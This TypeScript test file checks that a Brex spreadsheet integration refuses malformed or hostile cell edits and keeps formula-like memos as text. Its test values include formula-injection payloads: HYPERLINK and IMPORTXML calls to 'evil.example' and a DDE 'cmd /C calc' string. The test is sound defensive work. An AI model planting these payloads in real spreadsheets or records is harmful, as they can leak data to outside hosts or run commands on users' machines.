/**
 * Hostile input to the actions hostile-actions.test.ts leaves out: spend limits, departments,
 * locations, vendors and expense memos, through the built bundle. Each bad value is refused with
 * its own message naming the fix; names and emails that look like formulas stay text; a push of
 * all of them sends Brex nothing at all.
 */
import type { Sandbox } from '../../dev/sandbox';
import type { Runtime } from '../../dev/runtime';
import type { Expense, SpendLimit, Vendor } from '../../src/brex';
import { auditRows, nextRow, openSandbox, push, review, type } from '../support/team-world';
import { actionWorld, reviewAndPush } from '../support/action-world';
import { cardOnSpendLimit, EXPENSES, LIMITS, VENDORS } from './support/one-edit-per-action';
import { typeCases, unmatched, type RefusedCase } from './support/refused-edits';

describe('hostile values for the spend-limit, department, location, vendor and memo actions', () => {
  let sandbox: Sandbox;
  let runtime: Runtime;

  beforeAll(async () => {
    sandbox = await openSandbox();
    runtime = await actionWorld(sandbox, { company: cardOnSpendLimit });
  });

  afterAll(async () => {
    await sandbox.close();
  });

  it('refuses each bad value with its message and sends no request', async () => {
    const state = sandbox.snapshot();
    const limits = (state.spend_limits as SpendLimit[]).filter((l) => l.status === 'ACTIVE');
    const eur = limits.find((l) => l.name === 'EU Conferences') as SpendLimit;
    const usd = limits.filter((l) => l.authorization_settings?.base_limit.currency === 'USD');
    const l = (i: number): string => (usd[i] as SpendLimit).id;
    const vendors = state.vendors as Vendor[];
    const v = (i: number): string => (vendors[i] as Vendor).id;
    const expenseGrid = runtime.values(EXPENSES);
    const idAt = (expenseGrid[0] as unknown[]).indexOf('Brex ID');
    const shown = new Set(expenseGrid.map((row) => row[idAt]));
    const memoed = (state.expenses as Expense[]).filter((e) => e.expense_type === 'CARD');
    const dept = nextRow(runtime, 'Brex Departments');
    const loc = nextRow(runtime, 'Brex Locations');
    const vend = nextRow(runtime, VENDORS);

    const edits: readonly RefusedCase[] = [
      [[[LIMITS, eur.id, 'Base limit', '$5000']], /typed in "\$", but this spend limit is in EUR/],
      [[[LIMITS, l(0), 'Base limit', 'ten thousand']], /"ten thousand" is not an amount/],
      [[[LIMITS, l(1), 'Base limit', -100]], /negative/],
      [[[LIMITS, l(2), 'Base limit', "'=1000*2"]], /=1000\*2/],
      [[[LIMITS, l(3), 'Status', 'Deleted']], /Deleted/],
      [[[LIMITS, l(4), 'Status', '=TRUE()']], /=TRUE\(\)/],
      [[[LIMITS, l(5), 'Currency', 'GBP']], /changed to "GBP", but this spend limit is in USD/],
      [
        [['Brex Departments', dept, 'Name', '\'=HYPERLINK("http://evil.example")']],
        /"Name" starts with "="/,
      ],
      [[['Brex Departments', dept + 1, 'Description', 'No name']], /needs a name/],
      [[['Brex Locations', loc, 'Name', "'+Paris"]], /starts with "\+"/],
      [[['Brex Locations', loc + 1, 'Name', "'-Berlin"]], /starts with "-"/],
      [[[VENDORS, vend, 'Company name', "'=cmd|' /C calc'!A0"]], /"Company name" starts with "="/],
      [
        [
          [VENDORS, vend + 1, 'Company name', 'Good Name Inc'],
          [VENDORS, vend + 1, 'Email', 'not-an-email'],
        ],
        /not-an-email/,
      ],
      [[[VENDORS, v(0), 'Email', 'billing@']], /billing@/],
      [
        [[VENDORS, v(1), 'Email', '\'=IMPORTXML("http://evil.example","//a")']],
        /"Email" starts with "="/,
      ],
      [[[VENDORS, v(2), 'Phone', 'call me maybe']], /call me maybe/],
    ];
    await typeCases(runtime, edits);
    sandbox.log.length = 0;

    const { changes, results } = await reviewAndPush(runtime);
    expect(unmatched(edits, changes)).toEqual({ unmatched: [], problems: [] });
    expect(changes).toHaveLength(edits.length);
    expect(changes.every((ch) => ch.problem !== null)).toBe(true);
    expect(results.map((r) => r.outcome)).toEqual(changes.map(() => 'refused'));
    expect(sandbox.log).toHaveLength(0);
    expect(auditRows(runtime).filter((r) => r.Result === 'refused')).toHaveLength(edits.length);
    for (const sheet of [LIMITS, VENDORS, EXPENSES, 'Brex Departments', 'Brex Locations']) {
      expect(runtime.formulas(sheet).flat().filter(Boolean)).toEqual([]);
    }

    // A memo is free text: one that looks like a formula is sent as the text typed, and stays text.
    const expense = memoed.find((e) => shown.has(e.id)) as Expense;
    // The Memo column is plain text, so what is typed there is never read as a formula.
    await type(runtime, EXPENSES, expense.id, 'Memo', '=1+1');
    const memo = (await review(runtime)).filter((ch) => ch.action === 'expense.memo');
    expect(memo.map((ch) => [ch.problem, ch.toSend])).toEqual([[null, '=1+1']]);
    sandbox.log.length = 0;
    expect((await push(runtime, [memo[0]?.key ?? ''])).map((r) => r.outcome)).toEqual(['pushed']);
    expect(sandbox.log.filter((e) => e.method === 'PUT').map((e) => JSON.parse(e.body))).toEqual([
      { memo: '=1+1' },
    ]);
    expect(runtime.formulas(EXPENSES).flat().filter(Boolean)).toEqual([]);
  });
});
